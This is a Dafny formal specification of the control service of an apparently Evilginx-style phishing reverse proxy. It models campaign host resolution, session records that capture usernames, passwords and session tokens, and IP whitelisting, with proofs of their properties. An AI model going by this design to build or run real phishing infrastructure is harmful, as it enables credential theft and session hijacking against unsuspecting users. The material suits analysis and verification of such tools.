/**
 * The control plane (internal/control/service.go): the campaign table that
 * answers host-resolution queries, the in-memory session table, and the
 * IP-affinity ("whitelist") tables with lazy expiry. Clocks become a `now`
 * parameter in Unix seconds (nanoseconds for session timestamps), and the
 * verdict of the external store is a parameter.
 */
module Control {
  import opened Wrappers
  import opened Models
  import Maps
  import Strings

  /** How long a whitelisted IP stays bound to a session: ten minutes. */
  const WhitelistSeconds: int := 600

  /** The front host of one proxy host: its phish subdomain under the campaign's hostname. */
  function PhishHost(p: Phishlet, ph: ProxyHost): string
  {
    CombineHost(ph.phishSubdomain, p.hostname)
  }

  /** The origin host of one proxy host. */
  function OrigHost(ph: ProxyHost): string
  {
    CombineHost(ph.origSubdomain, ph.domain)
  }

  function TargetHost(p: Phishlet, ph: ProxyHost, isPhishHost: bool): string
  {
    if isPhishHost then PhishHost(p, ph) else OrigHost(ph)
  }

  /** Proxy host `i` of an enabled campaign matches `hostname` on the requested side. */
  predicate MatchesAt(p: Phishlet, hostname: string, isPhishHost: bool, i: int)
  {
    p.isEnabled && 0 <= i < |p.proxyHosts| && TargetHost(p, p.proxyHosts[i], isPhishHost) == hostname
  }

  /** `i` is the first proxy host of `p` that matches. */
  predicate FirstMatchAt(p: Phishlet, hostname: string, isPhishHost: bool, i: int)
  {
    MatchesAt(p, hostname, isPhishHost, i)
    && forall j :: 0 <= j < i ==> !MatchesAt(p, hostname, isPhishHost, j)
  }

  /** Some enabled campaign has a proxy host whose requested side equals `hostname`. */
  ghost predicate Resolves(phishlets: map<string, Phishlet>, hostname: string, isPhishHost: bool)
  {
    exists n, i :: n in phishlets && MatchesAt(phishlets[n], hostname, isPhishHost, i)
  }

  /** The campaign as sent over the wire: the hostname and flags are not part of it. */
  datatype ProtoPhishlet = ProtoPhishlet(
    name: string,
    author: string,
    redirectUrl: string,
    isTemplate: bool,
    proxyHosts: seq<ProxyHost>)

  /** `convertPhishletToProto`: the wire fields are copied, every proxy host in order. */
  function ConvertPhishletToProto(p: Phishlet): (r: ProtoPhishlet)
    ensures r.name == p.name && r.author == p.author && r.redirectUrl == p.redirectURL && r.isTemplate == p.isTemplate
    ensures |r.proxyHosts| == |p.proxyHosts|
    ensures forall i :: 0 <= i < |r.proxyHosts| ==> r.proxyHosts[i] == p.proxyHosts[i]
  {
    ProtoPhishlet(p.name, p.author, p.redirectURL, p.isTemplate, p.proxyHosts)
  }

  /**
   * The hostname, the enabled flag, the version and the time stamps are not
   * sent: campaigns that differ only in those convert to the same message.
   */
  lemma ProtoIgnoresUnsentFields(p: Phishlet, q: Phishlet)
    requires p.name == q.name && p.author == q.author && p.redirectURL == q.redirectURL
    requires p.isTemplate == q.isTemplate && p.proxyHosts == q.proxyHosts
    ensures ConvertPhishletToProto(p) == ConvertPhishletToProto(q)
  {
  }

  /** The reply of `GetPhishletByHost`. */
  datatype PhishletReply =
    | NotFound
    | Found(phishlet: ProtoPhishlet, phishDomain: string, phishSubdomain: string)

  /**
   * The replies the control plane may give: which matching campaign is
   * returned depends on Go's map order, so any matching one is allowed, with
   * the subdomain of its first matching proxy host.
   */
  ghost predicate IsAnswer(phishlets: map<string, Phishlet>, hostname: string, isPhishHost: bool, reply: PhishletReply)
  {
    match reply
    case NotFound => !Resolves(phishlets, hostname, isPhishHost)
    case Found(pp, domain, sub) =>
      exists n, i :: n in phishlets && FirstMatchAt(phishlets[n], hostname, isPhishHost, i)
        && pp == ConvertPhishletToProto(phishlets[n])
        && domain == phishlets[n].hostname
        && sub == phishlets[n].proxyHosts[i].phishSubdomain
  }

  /** A campaign table indexed by name, later entries replacing earlier ones. */
  function PhishletsByName(ps: seq<Phishlet>): map<string, Phishlet>
  {
    if |ps| == 0 then map[]
    else PhishletsByName(ps[..|ps| - 1])[ps[|ps| - 1].name := ps[|ps| - 1]]
  }

  /** A session table indexed by ID, later entries replacing earlier ones. */
  function SessionsById(ss: seq<Session>): map<string, Session>
  {
    if |ss| == 0 then map[]
    else SessionsById(ss[..|ss| - 1])[ss[|ss| - 1].id := ss[|ss| - 1]]
  }

  /** Every loaded campaign is filed under its own name, and each entry comes from the list. */
  lemma {:induction false} PhishletsByNameFiled(ps: seq<Phishlet>)
    ensures forall n :: n in PhishletsByName(ps) ==> PhishletsByName(ps)[n].name == n && PhishletsByName(ps)[n] in ps
    ensures forall k :: 0 <= k < |ps| ==> ps[k].name in PhishletsByName(ps)
  {
    if |ps| > 0 {
      var init := ps[..|ps| - 1];
      PhishletsByNameFiled(init);
      forall k | 0 <= k < |ps| ensures ps[k].name in PhishletsByName(ps) {
        if k < |ps| - 1 {
          assert ps[k] == init[k];
        }
      }
    }
  }

  /** The key of both whitelist tables: `ip + "-" + phishlet`. */
  function WhitelistKey(ip: string, phishletName: string): string
  {
    ip + "-" + phishletName
  }

  /** Addresses never contain '-', so the key identifies the pair. */
  lemma WhitelistKeyInjective(ip1: string, name1: string, ip2: string, name2: string)
    requires '-' !in ip1 && '-' !in ip2
    requires WhitelistKey(ip1, name1) == WhitelistKey(ip2, name2)
    ensures ip1 == ip2 && name1 == name2
  {
    var k := WhitelistKey(ip1, name1);
    Strings.IndexOfJoined(ip1, '-', name1);
    Strings.IndexOfJoined(ip2, '-', name2);
    assert ip1 == k[..|ip1|] == ip2;
    assert name1 == k[|ip1| + 1..] == name2;
  }

  datatype CreateSessionRequest = CreateSessionRequest(
    sessionId: string, phishletName: string, landingUrl: string, userAgent: string, remoteAddr: string)

  datatype UpdateSessionRequest = UpdateSessionRequest(
    sessionId: string,
    username: string,
    password: string,
    custom: map<string, string>,
    bodyTokens: map<string, string>,
    httpTokens: map<string, string>)

  /** `Success` and `Error` of a create/update reply. */
  datatype Reply = Reply(success: bool, error: string)

  /** A session as `CreateSession` builds it: empty captures, active, stamped `now`. */
  predicate IsNewSession(s: Session, req: CreateSessionRequest, now: Time)
  {
    && s.id == req.sessionId && s.phishletName == req.phishletName
    && s.landingURL == req.landingUrl && s.userAgent == req.userAgent
    && s.remoteAddr == req.remoteAddr
    && s.username == "" && s.password == "" && s.index == 0 && s.redirectURL == ""
    && s.custom == map[] && s.bodyTokens == map[] && s.httpTokens == map[]
    && s.cookieTokens == map[]
    && s.createTime == now && s.updateTime == now && s.isActive
  }

  /** Map `m` after the request's pairs were written over it. */
  predicate Merged(m: map<string, string>, delta: map<string, string>, r: map<string, string>)
  {
    && r.Keys == m.Keys + delta.Keys
    && (forall k :: k in delta ==> r[k] == delta[k])
    && (forall k :: k in m && k !in delta ==> r[k] == m[k])
  }

  /**
   * `s2` is `s` after an update: non-empty credentials replace the old ones,
   * the three string maps are merged, the update time is `now`, and nothing
   * else changes.
   */
  predicate IsUpdatedSession(s: Session, req: UpdateSessionRequest, now: Time, s2: Session)
  {
    && s2.username == (if req.username != "" then req.username else s.username)
    && s2.password == (if req.password != "" then req.password else s.password)
    && Merged(s.custom, req.custom, s2.custom)
    && Merged(s.bodyTokens, req.bodyTokens, s2.bodyTokens)
    && Merged(s.httpTokens, req.httpTokens, s2.httpTokens)
    && s2.updateTime == now
    && s2 == s.(username := s2.username, password := s2.password, custom := s2.custom,
                bodyTokens := s2.bodyTokens, httpTokens := s2.httpTokens, updateTime := now)
  }

  /** The update `UpdateSession` applies to one session. */
  method ApplyUpdate(s: Session, req: UpdateSessionRequest, now: Time) returns (s2: Session)
    ensures IsUpdatedSession(s, req, now, s2)
  {
    var username := if req.username != "" then req.username else s.username;
    var password := if req.password != "" then req.password else s.password;
    var custom := Maps.MergeInto(s.custom, req.custom);
    var bodyTokens := Maps.MergeInto(s.bodyTokens, req.bodyTokens);
    var httpTokens := Maps.MergeInto(s.httpTokens, req.httpTokens);
    s2 := s.(username := username, password := password, custom := custom,
             bodyTokens := bodyTokens, httpTokens := httpTokens, updateTime := now);
  }

  class ControlService {
    var sessions: map<string, Session>
    var phishlets: map<string, Phishlet>
    /** Expiry, in Unix seconds, of each whitelisted `ip-phishlet` key. */
    var ipWhitelist: map<string, int>
    /** Session ID bound to each whitelisted `ip-phishlet` key. */
    var ipSids: map<string, string>

    constructor ()
      ensures sessions == map[] && phishlets == map[]
      ensures ipWhitelist == map[] && ipSids == map[]
    {
      sessions, phishlets := map[], map[];
      ipWhitelist, ipSids := map[], map[];
    }

    /**
     * Search every enabled campaign, in the map's (unspecified) order, for a
     * proxy host whose front or origin host is `hostname`.
     */
    method GetPhishletByHost(hostname: string, isPhishHost: bool) returns (reply: PhishletReply)
      ensures IsAnswer(phishlets, hostname, isPhishHost, reply)
    {
      var todo := phishlets.Keys;
      while todo != {}
        invariant todo <= phishlets.Keys
        invariant forall n, i :: n in phishlets && n !in todo ==> !MatchesAt(phishlets[n], hostname, isPhishHost, i)
        decreases todo
      {
        var n :| n in todo;
        var p := phishlets[n];
        if p.isEnabled {
          var j := 0;
          while j < |p.proxyHosts|
            invariant 0 <= j <= |p.proxyHosts|
            invariant forall i :: 0 <= i < j ==> !MatchesAt(p, hostname, isPhishHost, i)
          {
            var ph := p.proxyHosts[j];
            var target := if isPhishHost then CombineHost(ph.phishSubdomain, p.hostname)
                          else CombineHost(ph.origSubdomain, ph.domain);
            if hostname == target {
              assert FirstMatchAt(p, hostname, isPhishHost, j);
              return Found(ConvertPhishletToProto(p), p.hostname, ph.phishSubdomain);
            }
            j := j + 1;
          }
        }
        todo := todo - {n};
      }
      return NotFound;
    }

    /** Whether `hostname` is the front host of some enabled campaign. */
    method ValidateSession(hostname: string) returns (shouldHandle: bool)
      ensures shouldHandle <==> Resolves(phishlets, hostname, true)
    {
      var todo := phishlets.Keys;
      while todo != {}
        invariant todo <= phishlets.Keys
        invariant forall n, i :: n in phishlets && n !in todo ==> !MatchesAt(phishlets[n], hostname, true, i)
        decreases todo
      {
        var n :| n in todo;
        var p := phishlets[n];
        if p.isEnabled {
          var j := 0;
          while j < |p.proxyHosts|
            invariant 0 <= j <= |p.proxyHosts|
            invariant forall i :: 0 <= i < j ==> !MatchesAt(p, hostname, true, i)
          {
            var phishHost := CombineHost(p.proxyHosts[j].phishSubdomain, p.hostname);
            if hostname == phishHost {
              assert MatchesAt(phishlets[n], hostname, true, j);
              return true;
            }
            j := j + 1;
          }
        }
        todo := todo - {n};
      }
      return false;
    }

    /**
     * Persist a fresh session and, only when the store accepted it, enter it
     * into the session table. `stored` is the store's error, if any.
     */
    method CreateSession(req: CreateSessionRequest, now: Time, stored: Option<string>) returns (reply: Reply)
      modifies this
      ensures phishlets == old(phishlets) && ipWhitelist == old(ipWhitelist) && ipSids == old(ipSids)
      ensures stored.Some? ==> reply == Reply(false, stored.value) && sessions == old(sessions)
      ensures stored.None? ==> reply == Reply(true, "")
      ensures stored.None? ==> req.sessionId in sessions && IsNewSession(sessions[req.sessionId], req, now)
      ensures stored.None? ==> sessions == old(sessions)[req.sessionId := sessions[req.sessionId]]
    {
      var session := Session(req.sessionId, 0, req.phishletName, req.landingUrl, "", "",
                             map[], map[], map[], map[], req.userAgent, req.remoteAddr,
                             now, now, true, "");
      if stored.Some? {
        return Reply(false, stored.value);
      }
      sessions := sessions[session.id := session];
      return Reply(true, "");
    }

    /**
     * Merge captured credentials and tokens into a known session. The
     * in-memory change stays even when the store then reports `stored`.
     */
    method UpdateSession(req: UpdateSessionRequest, now: Time, stored: Option<string>) returns (reply: Reply)
      modifies this
      ensures phishlets == old(phishlets) && ipWhitelist == old(ipWhitelist) && ipSids == old(ipSids)
      ensures req.sessionId !in old(sessions) ==> reply == Reply(false, "session not found") && sessions == old(sessions)
      ensures req.sessionId in old(sessions) ==>
        && req.sessionId in sessions
        && IsUpdatedSession(old(sessions)[req.sessionId], req, now, sessions[req.sessionId])
        && sessions == old(sessions)[req.sessionId := sessions[req.sessionId]]
        && reply == (if stored.None? then Reply(true, "") else Reply(false, stored.value))
    {
      if req.sessionId !in sessions {
        return Reply(false, "session not found");
      }
      var session := ApplyUpdate(sessions[req.sessionId], req, now);
      sessions := sessions[req.sessionId := session];
      if stored.Some? {
        return Reply(false, stored.value);
      }
      return Reply(true, "");
    }

    /**
     * Whether `ip` is still whitelisted for a campaign at `now`. An expired
     * entry is removed from both tables as it is read.
     */
    method IsWhitelistedIP(ip: string, phishletName: string, now: int) returns (isWhitelisted: bool)
      modifies this
      ensures sessions == old(sessions) && phishlets == old(phishlets)
      ensures var key := WhitelistKey(ip, phishletName);
        isWhitelisted <==> key in old(ipWhitelist) && now < old(ipWhitelist)[key]
      ensures var key := WhitelistKey(ip, phishletName);
        if key in old(ipWhitelist) && !isWhitelisted
        then ipWhitelist == old(ipWhitelist) - {key} && ipSids == old(ipSids) - {key}
        else ipWhitelist == old(ipWhitelist) && ipSids == old(ipSids)
    {
      var key := WhitelistKey(ip, phishletName);
      if key in ipWhitelist {
        if now < ipWhitelist[key] {
          return true;
        }
        ipWhitelist := ipWhitelist - {key};
        ipSids := ipSids - {key};
      }
      return false;
    }

    /**
     * The session last bound to `ip` for the campaign `hostname` resolves to
     * as a front host. Expiry is not checked here.
     */
    method GetSessionIdByIP(ip: string, hostname: string) returns (found: bool, sessionId: string)
      ensures !Resolves(phishlets, hostname, true) ==> !found
      ensures found ==> (exists n, i :: n in phishlets && MatchesAt(phishlets[n], hostname, true, i)
                          && WhitelistKey(ip, phishlets[n].name) in ipSids
                          && ipSids[WhitelistKey(ip, phishlets[n].name)] == sessionId)
      ensures (Resolves(phishlets, hostname, true)
        && forall n, i :: n in phishlets && MatchesAt(phishlets[n], hostname, true, i)
             ==> WhitelistKey(ip, phishlets[n].name) in ipSids) ==> found
      ensures !found ==> sessionId == ""
    {
      var reply := GetPhishletByHost(hostname, true);
      if reply.NotFound? {
        return false, "";
      }
      var key := WhitelistKey(ip, reply.phishlet.name);
      if key in ipSids {
        return true, ipSids[key];
      }
      return false, "";
    }

    /** Bind `ip` to a session for a campaign for the next ten minutes. */
    method WhitelistIP(ip: string, phishletName: string, sessionId: string, now: int) returns (success: bool)
      modifies this
      ensures sessions == old(sessions) && phishlets == old(phishlets)
      ensures ipWhitelist == old(ipWhitelist)[WhitelistKey(ip, phishletName) := now + WhitelistSeconds]
      ensures ipSids == old(ipSids)[WhitelistKey(ip, phishletName) := sessionId]
      ensures success
    {
      var key := WhitelistKey(ip, phishletName);
      ipWhitelist := ipWhitelist[key := now + WhitelistSeconds];
      ipSids := ipSids[key := sessionId];
      return true;
    }

    /**
     * File every listed campaign under its name. Entries not in the list are
     * kept; a listing error changes nothing.
     */
    method LoadPhishlets(listed: Result<seq<Phishlet>>) returns (err: Option<string>)
      modifies this
      ensures sessions == old(sessions) && ipWhitelist == old(ipWhitelist) && ipSids == old(ipSids)
      ensures listed.Err? ==> err == Some(listed.error) && phishlets == old(phishlets)
      ensures listed.Ok? ==> err == None && phishlets == old(phishlets) + PhishletsByName(listed.value)
    {
      if listed.Err? {
        return Some(listed.error);
      }
      var ps := listed.value;
      var k := 0;
      while k < |ps|
        invariant 0 <= k <= |ps|
        invariant phishlets == old(phishlets) + PhishletsByName(ps[..k])
        invariant sessions == old(sessions) && ipWhitelist == old(ipWhitelist) && ipSids == old(ipSids)
      {
        assert ps[..k + 1][..k] == ps[..k];
        Maps.UpdateUnion(old(phishlets), PhishletsByName(ps[..k]), ps[k].name, ps[k]);
        phishlets := phishlets[ps[k].name := ps[k]];
        k := k + 1;
      }
      assert ps[..k] == ps;
      return None;
    }

    /** File every listed session under its ID; as `LoadPhishlets`, nothing is removed. */
    method LoadSessions(listed: Result<seq<Session>>) returns (err: Option<string>)
      modifies this
      ensures phishlets == old(phishlets) && ipWhitelist == old(ipWhitelist) && ipSids == old(ipSids)
      ensures listed.Err? ==> err == Some(listed.error) && sessions == old(sessions)
      ensures listed.Ok? ==> err == None && sessions == old(sessions) + SessionsById(listed.value)
    {
      if listed.Err? {
        return Some(listed.error);
      }
      var ss := listed.value;
      var k := 0;
      while k < |ss|
        invariant 0 <= k <= |ss|
        invariant sessions == old(sessions) + SessionsById(ss[..k])
        invariant phishlets == old(phishlets) && ipWhitelist == old(ipWhitelist) && ipSids == old(ipSids)
      {
        assert ss[..k + 1][..k] == ss[..k];
        Maps.UpdateUnion(old(sessions), SessionsById(ss[..k]), ss[k].id, ss[k]);
        sessions := sessions[ss[k].id := ss[k]];
        k := k + 1;
      }
      assert ss[..k] == ss;
      return None;
    }
  }

  /** Whitelisting and then checking within ten minutes succeeds; afterwards the entry is gone. */
  method WhitelistScenario(cs: ControlService, ip: string, name: string, sid: string, t: int)
    returns (early: bool, late: bool)
    modifies cs
    ensures early && !late
    ensures WhitelistKey(ip, name) !in cs.ipWhitelist && WhitelistKey(ip, name) !in cs.ipSids
  {
    var _ := cs.WhitelistIP(ip, name, sid, t);
    early := cs.IsWhitelistedIP(ip, name, t + WhitelistSeconds - 1);
    late := cs.IsWhitelistedIP(ip, name, t + WhitelistSeconds);
  }

  /** Creating a session and then setting only the user name leaves the captured maps empty. */
  method CreateThenUpdateScenario(cs: ControlService, req: CreateSessionRequest, now: Time)
    returns (updated: Reply, s: Session)
    modifies cs
    ensures updated.success && s.username == "alice" && s.updateTime == now + 1
    ensures s.custom == map[] && s.bodyTokens == map[] && s.httpTokens == map[]
  {
    var created := cs.CreateSession(req, now, None);
    var update := UpdateSessionRequest(req.sessionId, "alice", "", map[], map[], map[]);
    updated := cs.UpdateSession(update, now + 1, None);
    s := cs.sessions[req.sessionId];
  }

  /** A front host is admitted exactly when the resolver finds a campaign for it. */
  lemma AdmissionAgreesWithResolution(phishlets: map<string, Phishlet>, hostname: string, reply: PhishletReply)
    requires IsAnswer(phishlets, hostname, true, reply)
    ensures reply.Found? <==> Resolves(phishlets, hostname, true)
  {
    if reply.Found? {
      var n, i :| n in phishlets && FirstMatchAt(phishlets[n], hostname, true, i);
      assert MatchesAt(phishlets[n], hostname, true, i);
    }
  }

  /** Disabling a campaign withdraws exactly its hosts from resolution. */
  lemma DisablingWithdrawsCampaign(phishlets: map<string, Phishlet>, name: string, hostname: string, isPhishHost: bool)
    requires name in phishlets
    ensures Resolves(phishlets[name := phishlets[name].(isEnabled := false)], hostname, isPhishHost)
      <==> exists m, i :: m in phishlets && m != name && MatchesAt(phishlets[m], hostname, isPhishHost, i)
  {
    var after := phishlets[name := phishlets[name].(isEnabled := false)];
    if Resolves(after, hostname, isPhishHost) {
      var m, i :| m in after && MatchesAt(after[m], hostname, isPhishHost, i);
      assert m != name;
      assert MatchesAt(phishlets[m], hostname, isPhishHost, i);
    }
    if exists m, i :: m in phishlets && m != name && MatchesAt(phishlets[m], hostname, isPhishHost, i) {
      var m, i :| m in phishlets && m != name && MatchesAt(phishlets[m], hostname, isPhishHost, i);
      assert MatchesAt(after[m], hostname, isPhishHost, i);
    }
  }
}
